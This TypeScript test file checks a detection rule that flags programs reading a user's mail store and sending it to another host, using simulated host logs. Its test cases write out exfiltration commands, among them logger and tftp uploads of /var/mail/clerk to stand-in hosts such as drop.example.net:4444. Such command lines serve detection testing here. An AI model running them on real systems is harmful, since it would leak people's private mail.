import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Telemetry } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HostLog } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const STARTS_AND_CONNECTIONS = { files: false, network: true } as const;
const STARTS = { files: false, network: false } as const;

interface Reach {
  readonly telemetry?: Telemetry;
  readonly user?: string;
  readonly uid?: number;
  readonly to?: readonly [address: string, port: number] | null;
}

/** Nothing records reads; a program is started with these words, and reaches out. What is told of it. */
async function told(words: string, { telemetry = STARTS_AND_CONNECTIONS, user = 'ops', uid, to }: Reach = {}) {
  const log = new HostLog(telemetry);
  log.deliver({ to: 'clerk' });
  log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  const shell = log.shell(user);
  const process = shell.run(words, { who: { ...shell.who, uid: uid ?? shell.who.uid } });
  const [address, port] = to ?? [OUT, 4444];
  if (to !== null) process.connect(address, port);
  const alerts = await scanLog(log);
  return alerts.map(({ analytic, severity, title }) => `${analytic} ${severity}: ${title}`).join();
}
const SENT = 'AN1310 medium: Mail of clerk read and sent out';

test('whatever program names a mail store and itself reaches another host has sent it', async () => {
  for (const words of [
    '/usr/bin/logger --tcp --server drop.example.net --port 4444 --file /var/mail/clerk',
    '/usr/bin/busybox-extra tftp -p -l /var/mail/clerk',
    '/opt/tools/pump /home/clerk/Maildir',
    '/home/ops/bin/x -i=/home/clerk/Maildir/new',
  ])
    assert.equal(await told(words, { uid: 0 }), SENT, words);
});

test('it is told a host, where connections are not recorded', async () => {
  for (const words of [
    '/usr/bin/logger --tcp --server drop.example.net --port 4444 --file /var/mail/clerk',
    `/usr/bin/logger --server=${OUT} --file /var/mail/clerk`,
    '/opt/tools/pump --url https://drop.example.net/in /var/mail/clerk',
  ])
    assert.equal(await told(words, { telemetry: STARTS, to: null, uid: 0 }), SENT, words);
});

test('what names a store and reaches nobody, or only this host, has sent nothing', async () => {
  for (const words of ['/usr/bin/stat /var/mail/clerk', '/usr/bin/logger --file /var/mail/clerk'])
    for (const to of [null, ['127.0.0.1', 514]] as const) assert.equal(await told(words, { uid: 0, to }), '', words);
  for (const words of [
    '/usr/bin/logger --file /var/mail/clerk',
    '/usr/bin/logger --server localhost --file /var/mail/clerk',
    '/usr/bin/logger --server 127.0.0.1 --file /var/mail/clerk',
    '/usr/bin/logger --server [::1] --file /var/mail/clerk',
    '/usr/bin/logger --server drop.example.net --file /var/log/mail.log',
  ])
    assert.equal(await told(words, { telemetry: STARTS, to: null, uid: 0 }), '', words);
});

test('a name looked up in a directory, the work of another machine, what starts others: no mail left', async () => {
  assert.equal(await told('/usr/bin/ls -l /var/mail/clerk', { uid: 0, to: ['198.51.100.9', 389] }), '');
  assert.equal(await told('/home/ops/bin/ls -l /var/mail/clerk', { uid: 0, to: ['198.51.100.9', 389] }), SENT);
  assert.equal(await told('/usr/bin/kubectl exec mx-0 -- cat /var/mail/clerk', { to: ['198.51.100.9', 6443] }), '');
  assert.equal(await told('/home/ops/bin/x exec /var/mail/clerk', { uid: 0 }), SENT, 'no tool of the system');
  assert.equal(await told('/usr/bin/pump -a -b -c -d -e exec /var/mail/clerk', { uid: 0 }), SENT, 'far behind');
  assert.equal(await told('/usr/bin/sudo ls /var/mail/clerk', { uid: 0, to: ['198.51.100.9', 30343] }), '');
});

test("a person's own client on the own box is at its work", async () => {
  assert.equal(await told('/usr/bin/mutt -f /var/mail/clerk', { user: 'clerk', to: ['198.51.100.9', 993] }), '');
});

test('a host below the own domain, named by an option, is one', async () => {
  const words = '/usr/bin/logger --server log.example.org --file /var/mail/clerk';
  assert.match(await told(words, { uid: 0 }), /^AN1310 (?:low|informational)/);
});
